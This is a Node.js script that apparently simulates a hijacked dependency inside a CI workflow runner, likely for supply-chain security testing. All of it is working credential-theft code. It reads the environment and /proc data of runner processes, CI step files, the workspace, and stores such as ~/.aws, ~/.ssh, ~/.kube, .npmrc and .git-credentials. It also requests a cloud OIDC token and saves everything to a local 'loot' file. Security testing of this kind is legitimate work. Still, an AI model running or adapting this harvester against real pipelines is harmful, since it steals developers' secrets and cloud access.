// Takes what it can reach, as the code of a hijacked dependency would, and writes it to
// <loot>/<who>.json: a list of { source, text }, where source is a path, a variable or a URL.
// Prints the folder, which is the one that the file `loot.path` names, else `loot`.
//
// It goes as far as the workflow runner that it runs under, and no further: the machine around the
// runner is a developer's, and none of its business. Without a runner it looks at itself alone.
import { mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { homedir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { fileURLToPath } from "node:url";

const [who = "unknown"] = process.argv.slice(2);
const product = dirname(dirname(fileURLToPath(import.meta.url)));

/** Names of the programs that run workflows. */
const RUNNERS = ["act", "Runner.Worker", "Runner.Listener"];
const MAX_BYTES = 1_000_000;
const MAX_FILES = 2_000;

const read = (path) => readFileSync(path, "utf8");

/** What `get` returns, or nothing where that is out of reach. */
function attempt(get) {
  try {
    return get() || undefined;
  } catch {
    return undefined;
  }
}

/** Every process by id, with its parent's id and its program's name. */
function processTree() {
  const ids = readdirSync("/proc").filter((name) => /^\d+$/.test(name));
  const known = ids.map((id) => {
    const status = attempt(() => read(`/proc/${id}/status`)) ?? "";
    const parent = Number(/^PPid:\s+(\d+)/m.exec(status)?.[1] ?? 0);
    return [Number(id), { parent, name: /^Name:\s+(.+)/m.exec(status)?.[1] ?? "" }];
  });
  return new Map(known);
}

function ancestors(tree, id) {
  const found = [];
  for (let at = id; at > 1 && tree.has(at); at = tree.get(at).parent) found.push(at);
  return found;
}

/** The outermost runner that this process descends from. */
function runnerAbove(tree) {
  return ancestors(tree, process.pid).findLast((id) => RUNNERS.includes(tree.get(id).name));
}

function processes(tree, runner) {
  const reachable = [...tree.keys()].filter((id) => runner && ancestors(tree, id).includes(runner));
  return ["self", ...reachable].flatMap((id) =>
    ["environ", "cmdline"].map((part) => {
      const source = `/proc/${id}/${part}`;
      return { source, text: attempt(() => read(source).replaceAll("\0", "\n")) };
    }),
  );
}

function variables() {
  return Object.entries(process.env).map(([name, text]) => ({ source: `env ${name}`, text }));
}

/** Small files below a folder; packages are not worth the way. */
function filesBelow(folder, depth = 5) {
  const entries = attempt(() => readdirSync(folder, { withFileTypes: true })) ?? [];
  return entries.flatMap((entry) => {
    const path = join(folder, entry.name);
    if (entry.isFile()) return (attempt(() => statSync(path).size) ?? 0) < MAX_BYTES ? [path] : [];
    const deeper = entry.isDirectory() && depth > 0 && entry.name !== "node_modules";
    return deeper ? filesBelow(path, depth - 1) : [];
  });
}

/**
 * The runner's files for its steps, credentials of its tools, and where a checkout leaves a token.
 */
function files(runner) {
  const steps = ["GITHUB_ENV", "GITHUB_OUTPUT", "GITHUB_STATE", "GITHUB_EVENT_PATH"];
  const homes = [".aws", ".docker", ".config", ".kube", ".ssh"];
  const single = [".npmrc", ".netrc", ".git-credentials", ".gitconfig"];
  const under = (names) => names.map((name) => join(homedir(), name));

  const folders = [join(product, ".git"), process.env.RUNNER_TEMP, process.env.GITHUB_WORKSPACE];
  const paths = steps.map((name) => process.env[name]);
  if (runner) folders.push(...under(homes));
  if (runner) paths.push(...under(single));
  paths.push(...folders.filter(Boolean).flatMap((folder) => filesBelow(folder)));
  return [...new Set(paths.filter(Boolean))]
    .slice(0, MAX_FILES)
    .map((source) => ({ source, text: attempt(() => read(source)) }));
}

/** Asks for an OIDC token with the job's variables, wherever they were found. */
async function idToken(loot) {
  const lines = loot.map(({ source, text }) =>
    source.startsWith("env ") ? `${source.slice("env ".length)}=${text}` : text,
  );
  const find = (name) => lines.join("\n").match(new RegExp(`^${name}=(.+)$`, "m"))?.[1];
  const url = find("ACTIONS_ID_TOKEN_REQUEST_URL");
  const token = find("ACTIONS_ID_TOKEN_REQUEST_TOKEN");
  if (!url || !token) return [];

  const headers = { authorization: `Bearer ${token}` };
  const asked = `${url}&audience=sts.amazonaws.com`;
  const text = await fetch(asked, { headers }).then((reply) => reply.text(), String);
  return [{ source: asked, text }];
}

const tree = processTree();
const runner = runnerAbove(tree);
const seen = [...variables(), ...processes(tree, runner), ...files(runner)];
const loot = seen.filter(({ text }) => text);
loot.push(...(await idToken(loot)));

const named = attempt(() => read(join(product, "loot.path")).trim());
const folder = resolve(product, named ?? "loot");
mkdirSync(folder, { recursive: true });
writeFileSync(join(folder, `${who}.json`), `${JSON.stringify(loot, null, 2)}\n`);
process.stdout.write(folder);
